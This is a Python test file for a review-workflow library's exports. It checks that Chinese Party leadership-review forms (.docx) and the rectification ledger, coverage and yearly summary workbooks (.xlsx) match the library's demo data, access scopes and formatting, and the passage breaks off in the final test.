"""The exports (reviewflow.export): the review forms (RULES.md §F) as .docx, the ledger, coverage
and yearly summary as .xlsx. Every file is written, opened again with python-docx / openpyxl and
each field compared with the library's own data for the scenario's quarter (reviewflow.demo)."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import attrs
import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from docx.shared import Cm

import reviewflow as rf
from reviewflow.demo import OFFICE, QUARTER, run_quarter, scenario_service
from reviewflow.export import (
    coverage_workbook,
    ledger_workbook,
    period_forms,
    review_form,
    summary_workbook,
)

ORG_FORM_LABELS = {
    "党组织名称",
    "组织类型",
    "书记",
    "党员人数",
    "点评领导（姓名、职务）",
    "点评时间",
    "点评方式/场合",
    "参加人员（党员、群众代表）",
    "公开承诺及兑现情况",
    "意见建议（努力方向）",
    "整改要求",
    "整改落实情况（书面回复）",
    "公开范围/形式",
    "点评领导签字",
    "日期",
    "填表单位（盖章）",
    "填表人",
    "备案编号",
    "备案日期",
}
MEMBER_FORM_LABELS = {
    "姓名",
    "所在党组织",
    "岗位类别",
    "点评领导",
    "点评时间",
    "点评方式/场合",
    "公开承诺及践诺情况",
    "意见建议",
    "整改要求",
    "整改落实情况",
    "公开范围/形式",
    "签字",
    "日期",
    "填表单位（盖章）",
    "填表人",
    "备案编号",
    "备案日期",
}
LEDGER_HEADER = [
    "党组织名称",
    "点评对象",
    "点评领导",
    "点评时间",
    "点评内容(要求)",
    "整改措施",
    "责任人",
    "期限",
    "状态",
    "完成日期",
]


# -- fixtures and readers ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def quarter() -> rf.ReviewService:
    """The scenario's 2023-Q4, run (read only: tests that change data build their own)."""
    service = scenario_service(today=date(2023, 12, 28))
    run_quarter(service)
    return service


def _fresh(today: date = date(2023, 12, 28)) -> rf.ReviewService:
    service = scenario_service(today=today)
    run_quarter(service)
    return service


def _find(service: rf.ReviewService, reviewer: str, subject: str, period: str) -> rf.Review:
    return next(
        r
        for r in service.reviews(OFFICE, within=QUARTER)
        if (r.reviewer_id, r.subject_id, str(r.period)) == (reviewer, subject, period)
    )


def _zh(day: date) -> str:
    return f"{day.year}年{day.month}月{day.day}日"


def form_fields(path: Path) -> dict[str, str]:
    """The form's table as label -> value; an aspect's rows as "aspect/成绩" and "aspect/问题"."""
    document = docx.Document(str(path))
    (table,) = document.tables
    fields: dict[str, str] = {}
    for row in table.rows:
        cells: list[Any] = []
        for cell in row.cells:
            if not cells or cells[-1]._tc is not cell._tc:
                cells.append(cell)
        texts = [c.text for c in cells]
        if len(texts) == 3:
            key = f"{texts[0]}/{texts[1]}"
            assert key not in fields
            fields[key] = texts[2]
        else:
            assert len(texts) in (2, 4), texts
            for label, value in zip(texts[::2], texts[1::2], strict=True):
                assert label not in fields, label
                fields[label] = value
    return fields


def form_title(path: Path) -> str:
    return docx.Document(str(path)).paragraphs[0].text


def _labels(fields: dict[str, str]) -> set[str]:
    return {k for k in fields if "/" not in k or k in {"点评方式/场合", "公开范围/形式"}}


def rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [tuple(r) for r in sheet.iter_rows(values_only=True)]


def label_values(sheet: Any, *, stop: str | None = None) -> dict[str, Any]:
    """Column A -> column B for the rows with a label and a value (until the row ``stop``)."""
    out: dict[str, Any] = {}
    for row in sheet.iter_rows(values_only=True):
        if stop is not None and row[0] == stop:
            break
        if row[0] is not None and len(row) > 1 and row[1] is not None:
            assert row[0] not in out, row[0]
            out[row[0]] = _day(row[1])
    return out


def table_after(sheet: Any, header_first: str, *, start_after: str | None = None) -> list[tuple]:
    """The rows of the table whose header row starts with ``header_first``, until a blank row."""
    found: list[tuple[Any, ...]] = []
    seen_start = start_after is None
    in_table = False
    for row in sheet.iter_rows(values_only=True):
        if not seen_start:
            seen_start = row[0] == start_after
            continue
        if in_table:
            if all(v is None for v in row):
                break
            found.append(tuple(row))
        elif row[0] == header_first:
            in_table = True
    return found


def _day(value: Any) -> Any:
    return value.date() if isinstance(value, datetime) else value


def _dated(lines: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    """Rows with openpyxl's datetimes read back as the dates written."""
    return [tuple(_day(v) for v in line) for line in lines]


# -- the organization form (R-STEP-3, §F) ------------------------------------------------------


def test_r_step_3_org_form_carries_every_field_of_the_review(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    review = _find(quarter, "li", "hospital", "2023-Q4")
    roster = quarter.roster()
    path = review_form(quarter, OFFICE, review.id, tmp_path / "deep" / "org.docx")
    assert path == tmp_path / "deep" / "org.docx"
    assert form_title(path) == "基层党组织开展创先争优活动领导点评表"
    fields = form_fields(path)
    assert _labels(fields) == ORG_FORM_LABELS

    assert fields["党组织名称"] == "区人民医院党总支"
    assert fields["组织类型"] == "党总支（医院）"
    assert fields["书记"] == "刘志强"
    members = [m for o in roster.subtree("hospital") for m in roster.members_of(o)]
    probationary = [m for m in members if m.status is rf.MemberStatus.PROBATIONARY]
    assert fields["党员人数"] == f"{len(members)}（其中预备党员{len(probationary)}名）"
    assert fields["点评领导（姓名、职务）"] == "李文华（区卫生局党委副书记）"
    assert review.method is not None
    assert review.method.held_on is not None
    assert fields["点评时间"] == _zh(review.method.held_on) == "2023年11月8日"
    assert fields["点评方式/场合"] == "现场点评 / 实地查看"

    (participant,) = review.participants
    assert fields["参加人员（党员、群众代表）"] == (
        f"1. {participant.name}（{participant.capacity.label_zh}）：{participant.opinion}"
    )

    lines = fields["公开承诺及兑现情况"].split("\n")
    commitments = review.commitments()
    assert len(lines) == len(commitments) == 2
    judged = {j.commitment_id: j for j in review.judgements}
    for line, commitment in zip(lines, commitments, strict=True):
        assert commitment.text in line
        assert commitment.status.label_zh in line
        assert commitment.evidence in line
        if commitment.id in judged:
            assert f"点评领导评定：{judged[commitment.id].status.label_zh}" in line
        else:
            assert "点评领导评定" not in line
    assert lines[0] == "1. 年内预约诊疗率达到60%（自报：已兑现；已达64%）"

    for aspect in rf.Aspect.for_kind(rf.ReviewKind.ORGANIZATION):
        comment = review.comment_on(aspect)
        assert comment is not None
        assert fields[f"{aspect.label_zh}/成绩"] == comment.achievements
        problems = fields[f"{aspect.label_zh}/问题"]
        assert problems == "\n".join(f"{i}. {p.text}" for i, p in enumerate(comment.problems, 1))
    assert fields["公开承诺及兑现/问题"] == "1. 义诊进社区承诺进度滞后"

    assert fields["意见建议（努力方向）"] == (
        f"努力方向：{review.direction}\n意见建议：{review.suggestions}"
    )
    (requirement,) = review.requirements
    assert fields["整改要求"] == (
        f"1. {requirement.text}（针对问题：义诊进社区承诺进度滞后；来自意见：{participant.name}）"
    )
    (item,) = review.ledger
    assert review.reply is not None
    assert review.closeout is not None
    assert fields["整改落实情况（书面回复）"].split("\n") == [
        (
            f"1. {item.measure}（责任人：{item.owner}；期限：{_zh(item.due)}；"
            f"状态：{item.status.label_zh}；完成日期：{_zh(item.done_on or date.min)}）"
        ),
        f"书面回复（{_zh(review.reply.replied_on)}）：{review.reply.text}",
        f"点评领导销号：{_zh(review.closeout.confirmed_on)}",
    ]
    assert review.publicity is not None
    assert fields["公开范围/形式"] == "全院 / 公示栏 / 2023年11月14日"
    assert fields["点评领导签字"] == ""
    assert review.form is not None
    assert fields["日期"] == _zh(review.form.filled_on)
    assert review.filing is not None
    assert fields["备案编号"] == review.filing.filing_no == "卫党点评〔2023〕41号"
    assert fields["备案日期"] == _zh(review.filing.filed_on)


def test_r_step_3_member_form_carries_every_field_of_the_review(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    review = _find(quarter, "zhou", "sun", "2023-12")
    path = review_form(quarter, "zhou", review.id, tmp_path / "member.docx")
    assert form_title(path) == "党员开展创先争优活动领导点评表"
    fields = form_fields(path)
    assert _labels(fields) == MEMBER_FORM_LABELS
    assert fields["姓名"] == "孙丽"
    assert fields["所在党组织"] == "内科党支部"
    assert fields["岗位类别"] == "医技"
    assert fields["点评领导"] == "周明（内科党支部书记）"
    assert fields["点评时间"] == "2023年12月20日"
    assert fields["点评方式/场合"] == "集中点评 / 支部党员大会"
    assert fields["公开承诺及践诺情况"] == ""
    for aspect in rf.Aspect.for_kind(rf.ReviewKind.MEMBER):
        comment = review.comment_on(aspect)
        assert comment is not None
        assert fields[f"{aspect.label_zh}/成绩"] == comment.achievements == "表现良好。"
        assert fields[f"{aspect.label_zh}/问题"] == "\n".join(
            f"{i}. {p.text}" for i, p in enumerate(comment.problems, 1)
        )
    assert fields["立足本职争优秀、完成急难险重任务/问题"] == "1. 学习笔记不够系统"
    assert fields["意见建议"] == f"努力方向：{review.direction}"
    (requirement,) = review.requirements
    assert fields["整改要求"] == f"1. {requirement.text}（针对问题：学习笔记不够系统）"
    (item,) = review.ledger
    assert fields["整改落实情况"] == (
        f"1. {item.measure}（责任人：孙丽；期限：2024年1月15日；状态：{item.status.label_zh}）"
    )
    assert item.status.label_zh == "未开始"
    assert fields["公开范围/形式"] == "内科党支部 / 会议通报 / 2023年12月20日"
    assert fields["签字"] == ""
    assert fields["日期"] == "2023年12月20日"
    assert (fields["填表单位（盖章）"], fields["填表人"]) == ("内科党支部", "周明")
    assert review.filing is not None
    assert fields["备案编号"] == review.filing.filing_no == "内科〔2023-12〕sun"


def test_r_step_3_member_form_of_a_group_member_names_the_branch_and_no_rectification(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    review = _find(quarter, "zhou", "zheng", "2023-11")
    assert review.no_rectification_needed
    fields = form_fields(review_form(quarter, OFFICE, review.id, tmp_path / "z.docx"))
    assert fields["姓名"] == "郑芳"
    assert fields["所在党组织"] == "内科党支部"  # 护理党小组 is not a Party organization (R-SUBJ)
    assert fields["岗位类别"] == "护理"
    assert fields["整改要求"] == "无需整改"
    assert fields["整改落实情况"] == f"点评领导销号：{_zh(date(2023, 11, 20))}"


def test_r_step_3_a_form_printed_before_the_review_shows_empty_fields(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    review = _find(quarter, "wang", "li", "2023-10")
    assert review.state is rf.ReviewState.SCHEDULED
    fields = form_fields(review_form(quarter, "wang", review.id, tmp_path / "blank.docx"))
    assert fields["姓名"] == "李文华"
    assert fields["所在党组织"] == "区卫生局党委"
    assert fields["岗位类别"] == "管理"
    assert fields["点评领导"] == "王建国（区卫生局党委书记）"
    assert fields["填表单位（盖章）"] == "区卫生局党委"  # the unit is known before the review
    filled = {"姓名", "所在党组织", "岗位类别", "点评领导", "填表单位（盖章）"}
    assert {k: v for k, v in fields.items() if k not in filled} == dict.fromkeys(
        set(fields) - filled, ""
    )

    org_review = _find(quarter, "zhao", "cdc", "2023-Q4")
    org_fields = form_fields(review_form(quarter, "zhao", org_review.id, tmp_path / "o.docx"))
    assert org_fields["党组织名称"] == "区疾控中心党支部"
    assert org_fields["书记"] == "何静"
    assert org_fields["党员人数"] == "3"
    assert org_fields["点评领导（姓名、职务）"] == "赵立新（区卫生局党委委员）"
    assert org_fields["备案编号"] == org_fields["点评时间"] == org_fields["整改要求"] == ""


def test_form_is_an_a4_table_set_in_a_cjk_font(quarter: rf.ReviewService, tmp_path: Path) -> None:
    review = _find(quarter, "li", "hospital", "2023-Q4")
    document = docx.Document(str(review_form(quarter, OFFICE, review.id, tmp_path / "f.docx")))
    section = document.sections[0]
    assert section.page_width is not None
    assert section.page_height is not None
    assert abs(section.page_width - Cm(21)) < Cm(0.05)
    assert abs(section.page_height - Cm(29.7)) < Cm(0.05)
    normal = document.styles["Normal"]
    r_fonts = normal.element.rPr.find(qn("w:rFonts"))
    assert r_fonts.get(qn("w:eastAsia")) == "宋体"
    (table,) = document.tables
    assert table.style is not None
    assert table.style.name == "Table Grid"


def test_r_scope_4_an_out_of_scope_actor_gets_no_form(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    review = _find(quarter, "li", "hospital", "2023-Q4")
    target = tmp_path / "not-here" / "form.docx"
    with pytest.raises(rf.OutOfScope):
        review_form(quarter, "wu", review.id, target)
    assert not target.parent.exists()
    # the subject's head reads it (R-SCOPE-4: its parties and the office)
    assert review_form(quarter, "liu", review.id, tmp_path / "liu.docx").exists()


# -- a period's forms --------------------------------------------------------------------------


def test_r_step_3_period_forms_one_per_review_held(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    held = [r for r in quarter.reviews(OFFICE, within=QUARTER) if r.state.reviewed]
    paths = period_forms(quarter, OFFICE, "2023-Q4", tmp_path / "forms")
    assert len(paths) == len(held) == 10
    assert len(set(paths)) == len(paths)
    assert all(p.parent == tmp_path / "forms" and p.exists() for p in paths)
    names = {p.name for p in paths}
    assert "2023-Q4_区人民医院党总支_李文华.docx" in names
    roster = quarter.roster()
    for review in held:
        name = (
            f"{review.period}_{roster.subject_name(review.kind, review.subject_id)}_"
            f"{roster.person_name(review.reviewer_id)}.docx"
        )
        assert name in names
        fields = form_fields(tmp_path / "forms" / name)
        assert review.filing is not None
        assert fields["备案编号"] == review.filing.filing_no
    assert sorted(p.name for p in tmp_path.joinpath("forms").iterdir()) == sorted(names)


def test_period_forms_take_the_actors_scope_and_a_subtree(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    by_zhou = period_forms(quarter, "zhou", QUARTER, tmp_path / "zhou")
    assert len(by_zhou) == 9
    assert all(p.name.endswith("_周明.docx") for p in by_zhou)
    assert period_forms(quarter, "wu", QUARTER, tmp_path / "wu") == [
        tmp_path / "wu" / f"{month}_吴红_周明.docx" for month in ("2023-10", "2023-11", "2023-12")
    ]
    in_hospital = period_forms(quarter, OFFICE, QUARTER, tmp_path / "h", root_id="hospital")
    assert len(in_hospital) == 10
    only_cdc = period_forms(quarter, OFFICE, QUARTER, tmp_path / "cdc", root_id="cdc")
    assert only_cdc == []
    with pytest.raises(rf.NotFound):
        period_forms(quarter, OFFICE, QUARTER, tmp_path / "x", root_id="no-such-org")
    assert not (tmp_path / "x").exists()


def test_period_forms_file_names_are_safe(tmp_path: Path) -> None:
    service = _fresh()
    org = service.roster().organizations["hospital"]
    service.import_roster(
        OFFICE, organizations=[rf.Organization(
            org.id, 'a/b\\c:d*e?"f<g>h|i j', org.kind, org.org_type, org.parent_id, org.head_id
        )],
    )  # fmt: skip
    paths = period_forms(service, OFFICE, QUARTER, tmp_path)
    names = [p.name for p in paths]
    assert "2023-Q4_a_b_c_d_e_f_g_h_i_j_李文华.docx" in names
    assert all(p.exists() and p.parent == tmp_path for p in paths)


# -- the rectification ledger (R-STEP-4) -------------------------------------------------------


def _expected_ledger(
    service: rf.ReviewService, actor: str = OFFICE
) -> dict[str, list[tuple[Any, ...]]]:
    roster = service.roster()
    out: dict[str, list[tuple[Any, ...]]] = {}
    for review in service.reviews(actor, within=QUARTER):
        if not review.state.reviewed:
            continue
        for item in review.ledger:
            requirement = next(r for r in review.requirements if r.id == item.requirement_id)
            org = roster.organizations[review.org_id].name
            out.setdefault(org, []).append(
                (
                    org,
                    roster.subject_name(review.kind, review.subject_id),
                    roster.person_name(review.reviewer_id),
                    review.method.held_on if review.method else None,
                    requirement.text,
                    item.measure,
                    item.owner,
                    item.due,
                    item.status.label_zh,
                    item.done_on,
                )
            )
    return out


def test_r_step_4_ledger_workbook_lists_every_item_by_organization(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    path = ledger_workbook(quarter, OFFICE, "2023-Q4", tmp_path / "out" / "ledger.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["汇总", "区人民医院党总支", "内科党支部"]
    expected = _expected_ledger(quarter)
    assert set(expected) == {"区人民医院党总支", "内科党支部"}
    for org_name, lines in expected.items():
        sheet = book[org_name]
        found = rows(sheet)
        assert found[0][0] == f"{org_name} 整改台账（2023年第四季度）"
        assert list(found[1]) == LEDGER_HEADER
        assert _dated(found[2:]) == lines
    hospital = rows(book["区人民医院党总支"])[2]
    assert hospital[:3] == ("区人民医院党总支", "区人民医院党总支", "李文华")
    assert hospital[5:7] == ("组织3次义诊进村", "马晓燕")
    assert hospital[8] == "已完成"

    totals = rows(book["汇总"])
    assert list(totals[1]) == ["党组织名称", "整改要求", "台账事项", "已完成", "逾期"]
    assert totals[2:] == [
        ("区人民医院党总支", 1, 1, 1, 0),
        ("内科党支部", 1, 1, 0, 0),
        ("合计", 2, 2, 1, 0),
    ]
    summary = quarter.summary(OFFICE, "bureau", 2023)
    assert totals[-1][1:] == (
        summary.requirements_raised,
        2,
        summary.items_done,
        summary.items_overdue,
    )


def test_r_step_4_ledger_counts_and_marks_overdue_items(tmp_path: Path) -> None:
    service = _fresh(today=date(2024, 1, 20))  # 孙丽's item was due 2024-01-15, still open
    book = openpyxl.load_workbook(ledger_workbook(service, OFFICE, QUARTER, tmp_path / "l.xlsx"))
    totals = rows(book["汇总"])
    assert totals[2:] == [
        ("区人民医院党总支", 1, 1, 1, 0),
        ("内科党支部", 1, 1, 0, 1),
        ("合计", 2, 2, 1, 1),
    ]
    assert service.summary(OFFICE, "internal", 2023).items_overdue == 1
    overdue_row = book["内科党支部"][3]
    assert overdue_row[0].font.color.rgb.endswith("C00000")
    done_row = book["区人民医院党总支"][3]
    assert done_row[0].font.color is None or not str(done_row[0].font.color.rgb).endswith("C00000")


def test_r_step_4_ledger_lists_a_requirement_not_yet_planned(tmp_path: Path) -> None:
    service = _fresh()
    rid = _find(service, "liu", "internal", "2023-Q4").id
    service.start("liu", rid)
    service.report("zhou", rid, summary="支部工作汇报", reported_on=date(2023, 12, 1))
    service.conclude_fact_finding("liu", rid)
    service.record_method(
        "liu", rid, method=rf.Method.ON_SITE, occasion=rf.Occasion.SYMPOSIUM,
        held_on=date(2023, 12, 5),
    )  # fmt: skip
    for aspect in rf.Aspect.for_kind(rf.ReviewKind.ORGANIZATION):
        problems = ["台账不规范"] if aspect is rf.Aspect.ORG_FIVE_GOODS else []
        review = service.comment(
            "liu", rid, aspect=aspect, achievements="工作扎实。", problems=problems
        )
    service.set_direction("liu", rid, direction="规范支部台账")
    service.require("liu", rid, text="完善三会一课记录", problem_ids=list(review.problem_ids()))
    review = service.conclude_review("liu", rid)
    assert review.state is rf.ReviewState.PUBLICIZING
    assert review.ledger == ()

    book = openpyxl.load_workbook(ledger_workbook(service, OFFICE, QUARTER, tmp_path / "l.xlsx"))
    lines = _dated(rows(book["内科党支部"])[2:])
    assert (
        "内科党支部", "内科党支部", "刘志强", date(2023, 12, 5), "完善三会一课记录",
        None, None, None, None, None,
    ) in lines  # fmt: skip
    assert ("内科党支部", 2, 1, 0, 0) in rows(book["汇总"])
    assert rows(book["汇总"])[-1] == ("合计", 3, 2, 1, 0)
    fields = form_fields(review_form(service, "liu", rid, tmp_path / "f.docx"))
    assert fields["整改要求"] == "1. 完善三会一课记录（针对问题：台账不规范）"
    assert fields["整改落实情况（书面回复）"] == ""
    assert fields["备案编号"] == fields["日期"] == ""


def test_r_scope_4_ledger_shows_only_what_the_actor_may_read(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    book = openpyxl.load_workbook(ledger_workbook(quarter, "sun", QUARTER, tmp_path / "sun.xlsx"))
    assert book.sheetnames == ["汇总", "内科党支部"]
    assert [r[1] for r in rows(book["内科党支部"])[2:]] == ["孙丽"]
    assert rows(book["汇总"])[-1] == ("合计", 1, 1, 0, 0)
    expected = _expected_ledger(quarter, "sun")
    assert list(expected) == ["内科党支部"]


def test_ledger_of_an_actor_with_nothing_to_read_is_an_empty_ledger(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    book = openpyxl.load_workbook(ledger_workbook(quarter, "yang", QUARTER, tmp_path / "y.xlsx"))
    assert book.sheetnames == ["汇总"]
    assert rows(book["汇总"])[-1] == ("合计", 0, 0, 0, 0)
    with pytest.raises(rf.NotFound):
        ledger_workbook(quarter, OFFICE, QUARTER, tmp_path / "n.xlsx", root_id="no-such-org")
    assert not (tmp_path / "n.xlsx").exists()


# -- coverage (R-COVER, R-LEAD, R-CLASS) -------------------------------------------------------


def _coverage_numbers(report: rf.CoverageReport) -> dict[str, Any]:
    return {
        "应点评": report.expected,
        "已点评": report.reviewed,
        "已销号": report.closed,
        "进行中": report.in_progress,
        "免于点评": report.waived,
        "不适用": report.not_applicable,
        "未覆盖": report.missing,
        "覆盖率": pytest.approx(report.rate),
    }


def test_r_cover_coverage_workbook_equals_the_report(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    report = quarter.coverage(OFFICE, QUARTER)
    path = coverage_workbook(quarter, OFFICE, QUARTER, tmp_path / "c" / "coverage.xlsx")
    book = openpyxl.load_workbook(path)
    totals = book["汇总"]
    assert book.sheetnames[0] == "汇总"
    values = label_values(totals, stop="点评领导完成情况")
    assert values == {"范围": "全部", **_coverage_numbers(report)}
    assert values["应点评"] == 42
    assert totals.cell(10, 2).number_format == "0.0%"

    roster = quarter.roster()
    orgs = [o for r in roster.roots() for o in roster.subtree(r.id)]
    reviewed_orgs = [o for o in orgs if roster.organizations[o].kind is not rf.OrgKind.GROUP]
    assert book.sheetnames[1:] == [roster.organizations[o].name for o in reviewed_orgs]

    reviews = quarter.reviews(OFFICE, within=QUARTER)
    for org_id in reviewed_orgs:
        sheet = book[roster.organizations[org_id].name]
        listed = table_after(sheet, "点评周期")
        own = [r for r in reviews if r.org_id == org_id]
        assert sorted(listed) == sorted(
            (
                str(r.period),
                r.kind.label_zh,
                roster.subject_name(r.kind, r.subject_id),
                roster.person_name(r.reviewer_id),
                r.state.label_zh,
            )
            for r in own
        )
        gaps = table_after(sheet, "点评周期", start_after="未覆盖")
        assert gaps == [
            (str(g.period), g.kind.label_zh, g.subject_name, g.reviewer_name, g.reason.label_zh)
            for g in report.gaps
            if g.org_id == org_id
        ]
    # the scenario's gaps: 冯军 after his move, 林涛 who joined after scheduling
    assert table_after(book["内科党支部"], "点评周期", start_after="未覆盖") == [
        ("2023-12", "党员", "冯军", "周明", "未安排点评")
    ]
    assert table_after(book["外科党支部"], "点评周期", start_after="未覆盖") == [
        ("2023-12", "党员", "林涛", "钱伟", "未安排点评")
    ]
    assert ("2023-10", "党员", "施雨", "何静", "免于点评") in table_after(
        book["区疾控中心党支部"], "点评周期"
    )
    assert ("2023-12", "党员", "冯军", "钱伟", "已撤销") in table_after(
        book["外科党支部"], "点评周期"
    )


def test_r_lead_coverage_workbook_shows_each_reviewers_rate(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    report = quarter.coverage(OFFICE, QUARTER)
    book = openpyxl.load_workbook(coverage_workbook(quarter, OFFICE, QUARTER, tmp_path / "c.xlsx"))
    totals = book["汇总"]
    table = table_after(totals, "点评领导")
    assert [r[:6] for r in table] == [
        (r.reviewer_name, r.expected, r.reviewed, r.closed, r.waived, r.not_applicable)
        for r in report.reviewers
    ]
    assert [r[6] for r in table] == [pytest.approx(r.rate) for r in report.reviewers]
    assert ("周明", 10, 9, 8, 0, 0, pytest.approx(0.9)) in table
    by_type = table_after(totals, "类别", start_after="分类情况（组织类型）")
    assert by_type == [
        (c.name, c.expected, c.reviewed, None, None, None, None) for c in report.by_org_type
    ]
    by_category = table_after(totals, "类别", start_after="分类情况（岗位类别）")
    assert by_category == [
        (c.name, c.expected, c.reviewed, None, None, None, None) for c in report.by_post_category
    ]


def test_r_cover_coverage_workbook_of_a_subtree_for_its_head(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    report = quarter.coverage("liu", QUARTER, root_id="hospital")
    book = openpyxl.load_workbook(
        coverage_workbook(quarter, "liu", QUARTER, tmp_path / "h.xlsx", root_id="hospital")
    )
    assert book.sheetnames == ["汇总", "区人民医院党总支", "内科党支部", "外科党支部"]
    values = label_values(book["汇总"], stop="点评领导完成情况")
    assert values == {"范围": "区人民医院党总支", **_coverage_numbers(report)}


def test_r_cover_an_out_of_scope_actor_gets_no_coverage(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    target = tmp_path / "no" / "coverage.xlsx"
    with pytest.raises(rf.OutOfScope):
        coverage_workbook(quarter, "wu", QUARTER, target)
    with pytest.raises(rf.OutOfScope):
        coverage_workbook(quarter, "zhou", QUARTER, target, root_id="hospital")
    assert not target.parent.exists()


# -- the yearly summary (R-SUMMARY) ------------------------------------------------------------


def _summary_values(summary: rf.Summary, roster: rf.Roster) -> dict[str, Any]:
    coverage = summary.coverage
    sent = summary.submission
    values = {
        "党组织名称": summary.org_name,
        "年度": summary.year,
        "报送期限": summary.due,
        "报送日期": summary.submission.submitted_on if summary.submission else "未报送",
        "报送人": roster.person_name(sent.submitted_by) if sent else None,
        "文号": sent.reference if sent else None,
        **{k.label_zh: n for k, n in summary.reviews_by_kind.items()},
        **{m.label_zh: n for m, n in summary.reviews_by_method.items()},
        **_coverage_numbers(coverage),
        "提出整改要求": summary.requirements_raised,
        "已完成": summary.items_done,
        "逾期": summary.items_overdue,
        "责令限期整改": summary.orders_issued,
        "督导检查次数": len(summary.inspections),
        "已验收": summary.orders_verified,
        "逾期未整改": summary.orders_overdue,
        "典型数量": len(summary.exemplars),
    }
    return {label: value for label, value in values.items() if value is not None}


@pytest.fixture
def with_orders() -> rf.ReviewService:
    service = _fresh()
    late = service.issue_order(
        OFFICE,
        kind=rf.ReviewKind.ORGANIZATION,
        subject_id="cdc",
        criticism="创先争优措施不实",
        requirement="限期完善承诺事项",
        deadline=date(2023, 12, 20),
    )
    assert late.overdue(service.today())
    done = service.issue_order(
        OFFICE,
        kind=rf.ReviewKind.MEMBER,
        subject_id="wu",
        criticism="学习不够深入",
        requirement="补齐学习笔记",
        deadline=date(2024, 1, 31),
    )
    service.report_order("wu", done.id, report="已补齐")
    service.verify_order(OFFICE, done.id, accepted=True)
    service.record_inspection(
        OFFICE, org_id="cdc", on=date(2023, 12, 1), inspectors=["陈敏"], place="疾控中心",
        findings="承诺事项不实",
    )  # fmt: skip
    service.submit_summary("he", "cdc", 2023, reference="疾控党支〔2023〕5号")
    return service


def test_r_summary_workbook_equals_the_librarys_summary(
    with_orders: rf.ReviewService, tmp_path: Path
) -> None:
    service = with_orders
    path = summary_workbook(service, OFFICE, "bureau", 2023, tmp_path / "s" / "summary.xlsx")
    book = openpyxl.load_workbook(path)
    roster = service.roster()
    org_ids = [o for o in roster.subtree("bureau") if o != "nursing-group"]
    names = [roster.organizations[o].name for o in org_ids]
    assert book.sheetnames == ["汇总", *names]

    total = service.summary(OFFICE, "bureau", 2023)
    totals = book["汇总"]
    assert label_values(totals, stop="点评对象") == _summary_values(total, roster)
    assert total.orders_issued == 2
    assert total.orders_verified == 1
    assert total.orders_overdue == 1
    assert len(total.inspections) == 1
    cdc = label_values(book["区疾控中心党支部"], stop="点评对象")
    assert (cdc["报送日期"], cdc["报送人"], cdc["文号"]) == (
        date(2023, 12, 28), "何静", "疾控党支〔2023〕5号"
    )  # fmt: skip
    assert (cdc["督导检查次数"], label_values(totals, stop="点评对象")["报送日期"]) == (1, "未报送")
    assert total.reviews_by_kind == {rf.ReviewKind.ORGANIZATION: 1, rf.ReviewKind.MEMBER: 9}

    for org_id, name in zip(org_ids, names, strict=True):
        summary = service.summary(OFFICE, org_id, 2023)
        sheet = book[name]
        assert rows(sheet)[0][0] == f"{name} 2023年 点评情况总结（含下级党组织）"
        assert label_values(sheet, stop="点评对象") == _summary_values(summary, roster)
        exemplars = table_after(sheet, "点评对象")
        assert [(r[0], r[1], _day(r[2])) for r in exemplars] == [
            (roster.subject_name(e.kind, e.subject_id), e.deeds, e.recorded_on)
            for e in summary.exemplars
        ]
        assert label_values(sheet)["典型数量"] == len(summary.exemplars)

    table = table_after(totals, "党组织")
    assert [r[0] for r in table] == names
    for line, org_id in zip(table, org_ids, strict=True):
        summary = service.summary(OFFICE, org_id, 2023)
        sent = summary.submission
        assert _day(line[-1]) == (sent.submitted_on if sent else "未报送")
        assert line[:-1] == (
            summary.org_name,
            sum(summary.reviews_by_kind.values()),
            summary.coverage.expected,
            pytest.approx(summary.coverage.rate),
            summary.requirements_raised,
            summary.items_done,
            summary.items_overdue,
            summary.orders_issued,
            len(summary.exemplars),
        )
        assert (summary.submission is not None) == (org_id == "cdc")
    hospital = book["区人民医院党总支"]
    assert _dated(table_after(hospital, "点评对象")) == [
        ("区人民医院党总支", "门诊流程再造，群众平均候诊时间缩短40%。", date(2023, 12, 28))
    ]


def test_r_summary_for_a_branch_head_and_refused_to_a_member(
    quarter: rf.ReviewService, tmp_path: Path
) -> None:
    book = openpyxl.load_workbook(
        summary_workbook(quarter, "zhou", "internal", "2023", tmp_path / "i.xlsx")
    )
    assert book.sheetnames == ["汇总", "内科党支部"]
    summary = quarter.summary("zhou", "internal", 2023)
    assert label_values(book["汇总"], stop="点评对象") == _summary_values(summary, quarter.roster())
    target = tmp_path / "refused" / "s.xlsx"
    with pytest.raises(rf.OutOfScope):
        summary_workbook(quarter, "wu", "internal", 2023, target)
    with pytest.raises(rf.OutOfScope):
        summary_workbook(quarter, "zhou", "bureau", 2023, target)
    assert not target.parent.exists()


# -- English headings --------------------------------------------------------------------------


def test_lang_en_gives_english_headings(quarter: rf.ReviewService, tmp_path: Path) -> None:
    review = _find(quarter, "li", "hospital", "2023-Q4")
    path = review_form(quarter, OFFICE, review.id, tmp_path / "en.docx", lang="en")
    assert form_title(path) == "Leadership review form: organization"
    fields = form_fields(path)
    assert fields["Organization"] == "区人民医院党总支"
    assert fields["Reviewer (name, post)"] == "李文华 (deputy secretary, 区卫生局党委)"
    assert fields["Date of review"] == "2023-11-08"
    assert fields["Method / occasion"] == "on-site review / field visit"
    assert fields["Filing number"] == "卫党点评〔2023〕41号"
    assert fields["Reviewer's signature"] == ""
    assert fields["public commitments kept/Problems"] == "1. 义诊进社区承诺进度滞后"
    assert not any("\u4e00" <= ch <= "\u9fff" for key in fields for ch in key)

    member = _find(quarter, "zhou", "sun", "2023-12")
    member_fields = form_fields(
